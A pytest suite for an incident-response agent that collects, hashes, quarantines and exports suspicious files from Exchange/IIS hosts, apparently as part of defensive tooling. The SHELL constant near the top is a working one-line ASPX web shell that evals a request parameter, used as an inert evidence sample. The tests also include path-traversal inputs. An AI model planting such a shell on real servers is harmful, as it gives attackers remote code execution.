"""Collecting a file for responders: only regular files inside the collection roots, never
through a link, capped in size, hashed; and over the real command channel, the collector
keeps the bytes as inert evidence tied to the command and host."""

from __future__ import annotations

import hashlib
import json
import os
import sqlite3
import stat
import zipfile
from contextlib import closing
from pathlib import Path

import pytest
from e2e.processes import AgentProc, Collector, wait_for

from agent.config import AgentConfig
from agent.layout import WatchedRoot
from agent.logs.locations import default_log_globs
from agent.respond.collect import (
    CollectError,
    CollectRoot,
    FileCollector,
    collect_roots,
    is_link,
)
from agent.respond.quarantine import Vault

SHELL = b'<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>'


@pytest.fixture
def tree(tmp_path: Path) -> dict[str, Path]:
    web = tmp_path / "aspnet_client"
    staging = tmp_path / "ProgramData"
    logs = tmp_path / "Logging"
    for folder in (web / "sub", staging / "deeper", logs / "HttpProxy" / "Owa"):
        folder.mkdir(parents=True)
    return {"tmp": tmp_path, "web": web, "staging": staging, "logs": logs}


def collector_for(tree: dict[str, Path], max_bytes: int = 1024) -> FileCollector:
    roots = [
        CollectRoot(tree["web"]),
        CollectRoot(tree["staging"], recursive=False),
        CollectRoot(tree["logs"] / "HttpProxy" / "Owa"),
    ]
    return FileCollector(roots, max_bytes=max_bytes)


def test_collects_bytes_and_hash_and_changes_nothing(tree: dict[str, Path]) -> None:
    shell = tree["web"] / "sub" / "s.aspx"
    shell.write_bytes(SHELL)
    os.utime(shell, ns=(10**18, 10**18))
    before = shell.stat()
    got = collector_for(tree).collect(str(shell))
    assert got.content == SHELL
    assert got.sha256 == hashlib.sha256(SHELL).hexdigest()
    assert (got.path, got.size, got.mtime_ns) == (str(shell), len(SHELL), 10**18)
    assert got.metadata() == {
        "path": str(shell),
        "size": len(SHELL),
        "sha256": got.sha256,
        "mtime_ns": 10**18,
    }
    after = shell.stat()
    assert (after.st_mtime_ns, after.st_size, shell.read_bytes()) == (
        before.st_mtime_ns,
        before.st_size,
        SHELL,
    )
    log = tree["logs"] / "HttpProxy" / "Owa" / "HttpProxy_2021030301-1.LOG"
    log.write_text("DateTime,RequestId\n")
    assert collector_for(tree).collect(str(log)).content == b"DateTime,RequestId\n"
    archive = tree["staging"] / "out.7z"
    archive.write_bytes(b"7z\xbc\xaf")
    assert collector_for(tree).collect(str(archive)).size == 4
    empty = tree["web"] / "empty.aspx"
    empty.touch()
    assert collector_for(tree).collect(str(empty)).sha256 == hashlib.sha256(b"").hexdigest()


@pytest.mark.parametrize(
    ("make", "fragment"),
    [
        (lambda t: str(t["web"] / ".." / "outside.txt"), "not inside a collection root"),
        (lambda t: str(t["tmp"] / "outside.txt"), "not inside a collection root"),
        (lambda t: "aspnet_client/s.aspx", "not inside a collection root"),
        (lambda t: str(t["web"]), "not inside a collection root"),  # the root itself
        (lambda t: str(t["staging"] / "deeper" / "x.7z"), "not inside"),  # staging: one level
        (lambda t: str(t["web"] / "missing.aspx"), "does not exist"),
        (lambda t: str(t["web"] / "sub"), "not a regular file"),
        (lambda t: "", "empty or malformed"),
        (lambda t: str(t["web"] / "a\x00b"), "empty or malformed"),
    ],
)
def test_refusals_name_the_reason(tree: dict[str, Path], make, fragment: str) -> None:
    (tree["tmp"] / "outside.txt").write_text("secret")
    (tree["staging"] / "deeper" / "x.7z").write_bytes(b"7z")
    with pytest.raises(CollectError, match=fragment):
        collector_for(tree).collect(make(tree))


def test_links_are_never_followed(tree: dict[str, Path]) -> None:
    secret = tree["tmp"] / "secret.txt"
    secret.write_text("system file")
    (tree["web"] / "link.aspx").symlink_to(secret)
    (tree["web"] / "dir").symlink_to(tree["tmp"], target_is_directory=True)
    for path in (tree["web"] / "link.aspx", tree["web"] / "dir" / "secret.txt"):
        with pytest.raises(CollectError, match="is a link"):
            collector_for(tree).collect(str(path))


def test_a_fifo_or_socket_is_not_a_file(tree: dict[str, Path]) -> None:
    fifo = tree["web"] / "pipe.aspx"
    os.mkfifo(fifo)
    with pytest.raises(CollectError, match="not a regular file"):
        collector_for(tree).collect(str(fifo))


def test_size_cap(tree: dict[str, Path]) -> None:
    big = tree["web"] / "big.aspx"
    big.write_bytes(b"x" * 1025)
    with pytest.raises(CollectError, match=r"1025 bytes, over the collection limit of 1024"):
        collector_for(tree).collect(str(big))
    big.write_bytes(b"x" * 1024)
    assert collector_for(tree).collect(str(big)).size == 1024


def test_windows_reparse_points_count_as_links() -> None:
    # A junction's lstat on Windows: a directory with the reparse-point attribute.
    assert is_link(stat.S_IFDIR | 0o755, stat.FILE_ATTRIBUTE_REPARSE_POINT)
    assert is_link(stat.S_IFLNK | 0o777, 0)
    assert not is_link(stat.S_IFREG | 0o644, stat.FILE_ATTRIBUTE_ARCHIVE)


def test_roots_are_the_watched_roots_and_the_log_folders(tmp_path: Path) -> None:
    exchange, inetpub = tmp_path / "V15", tmp_path / "inetpub"
    watched = [
        WatchedRoot(inetpub / "wwwroot" / "aspnet_client", "webroot", False),
        WatchedRoot(tmp_path / "ProgramData", "staging", False, recursive=False, only=(".7z",)),
    ]
    roots = collect_roots(watched, default_log_globs(exchange, inetpub))
    assert CollectRoot(inetpub / "wwwroot" / "aspnet_client") in roots
    assert CollectRoot(tmp_path / "ProgramData", recursive=False) in roots
    assert CollectRoot(inetpub / "logs" / "LogFiles") in roots
    assert CollectRoot(exchange / "Logging" / "HttpProxy" / "Owa") in roots
    assert CollectRoot(exchange / "Logging" / "OABGeneratorLog") in roots
    assert len(roots) == len(set(roots))
    files = FileCollector(roots, max_bytes=100)
    iis = inetpub / "logs" / "LogFiles" / "W3SVC1" / "u_ex210303.log"
    iis.parent.mkdir(parents=True)
    iis.write_text("#Fields: date time\n")
    assert files.collect(str(iis)).size == 19


def test_vault_copy_is_the_quarantined_content_within_the_cap(tree: dict[str, Path]) -> None:
    vault = Vault(tree["tmp"] / "vault", [tree["web"]])
    shell = tree["web"] / "s.aspx"
    shell.write_bytes(SHELL)
    entry = vault.quarantine(str(shell))
    assert collector_for(tree).vault_copy(vault, entry) == SHELL
    assert collector_for(tree, max_bytes=10).vault_copy(vault, entry) == b""  # over the cap


# ---------------------------------------------------------------- over the command channel


def _commands(collector: Collector) -> list[dict[str, str]]:
    rows: list[dict[str, str]] = json.loads(collector.cli("commands", "--format", "json").stdout)
    return rows


@pytest.mark.e2e
def test_collect_over_the_command_channel(tmp_path: Path) -> None:
    root = tmp_path / "drive"
    aspnet = root / "inetpub/wwwroot/aspnet_client"
    aspnet.mkdir(parents=True)
    (root / "ProgramData").mkdir()  # a staging folder: collectable, one level deep
    collector = Collector(tmp_path / "collector")
    agent = AgentProc(root, tmp_path / "agent", collector.address)
    try:
        shell = aspnet / "shell.aspx"
        shell.write_bytes(SHELL)
        wait_for(collector.alerts, what="the alert")
        [host] = json.loads(collector.cli("agent", "list", "--format", "json").stdout)
        out = collector.cli("collect", host["id"], str(shell), "--reason", "for the IR firm")
        assert "collect queued as command" in out.stdout
        outside = tmp_path / "keep.txt"
        outside.write_text("keep")
        collector.cli("collect", host["id"], str(outside))
        wait_for(
            lambda: all(c["status"] in ("done", "failed") for c in _commands(collector)),
            what="both commands answered",
        )
        done, failed = sorted(_commands(collector), key=lambda c: c["status"])
        assert (done["status"], done["kind"], done["argument"]) == ("done", "collect", str(shell))
        assert json.loads(done["result"])["sha256"] == hashlib.sha256(SHELL).hexdigest()
        assert "not inside a collection root" in failed["result"]
        assert shell.read_bytes() == SHELL  # collecting changes nothing on the host
        with sqlite3.connect(collector.data_dir / "exwatch.db") as conn:
            stored = conn.execute(
                "SELECT c.agent_id, c.path, c.sha256, c.size, f.content FROM collected_files c "
                "JOIN evidence_files f ON f.sha256 = c.sha256 WHERE c.command_id = ?",
                (done["id"],),
            ).fetchone()
        assert stored == (
            host["id"],
            str(shell),
            hashlib.sha256(SHELL).hexdigest(),
            len(SHELL),
            SHELL,
        )

        def actions() -> list[str]:
            # The agent's audit events travel in its batches, apart from the command's
            # result: they may commit a moment after the command shows as answered.
            with closing(sqlite3.connect(collector.data_dir / "exwatch.db")) as conn:
                rows = conn.execute("SELECT summary FROM events WHERE kind = 'action'")
                return sorted(r[0] for r in rows)

        expected = sorted([f"collect_file {shell}", f"collect_file {outside}"])
        wait_for(lambda: actions() == expected, what="both audit events")
        # a quarantine sends the content along; the export holds both copies' origins
        collector.cli("quarantine", "--agent", host["id"], str(shell))
        wait_for(
            lambda: any(
                c["kind"] == "quarantine" and c["status"] == "done" for c in _commands(collector)
            ),
            what="the quarantine confirmed",
        )
        [incident] = [a for a in collector.alerts() if a["rule"] == "exwatch.incident"]
        archive = tmp_path / "incident.zip"
        collector.cli("incident", "export", str(incident["id"]), "--out", str(archive))
        folder = f"incident-{incident['id']}/"
        with zipfile.ZipFile(archive) as zf:
            manifest = json.loads(zf.read(folder + "manifest.json"))
            for member in manifest["members"]:
                content = zf.read(folder + member["name"])
                assert hashlib.sha256(content).hexdigest() == member["sha256"]
            digest = hashlib.sha256(SHELL).hexdigest()
            assert zf.read(f"{folder}files/{digest}.bin") == SHELL
        [kept] = manifest["files"]
        assert sorted(s["kind"] for s in kept["sources"]) == ["collect", "quarantine"]
        assert {s["original_path"] for s in kept["sources"]} == {str(shell)}
        # a file at the agent's default cap fits the collector's default message limit
        dump = root / "ProgramData" / "lsass.dmp"
        dump.write_bytes(os.urandom(AgentConfig().respond.collect_max_bytes))
        collector.cli("collect", host["id"], str(dump))
        [answer] = wait_for(
            lambda: [
                c
                for c in _commands(collector)
                if c["argument"] == str(dump) and c["status"] in ("done", "failed")
            ],
            what="the large file's collection",
        )
        assert answer["status"] == "done", answer["result"]
        with sqlite3.connect(collector.data_dir / "exwatch.db") as conn:
            [(size,)] = conn.execute(
                "SELECT size FROM collected_files WHERE command_id = ?", (answer["id"],)
            ).fetchall()
        assert size == dump.stat().st_size
    finally:
        agent.stop()
        collector.stop()
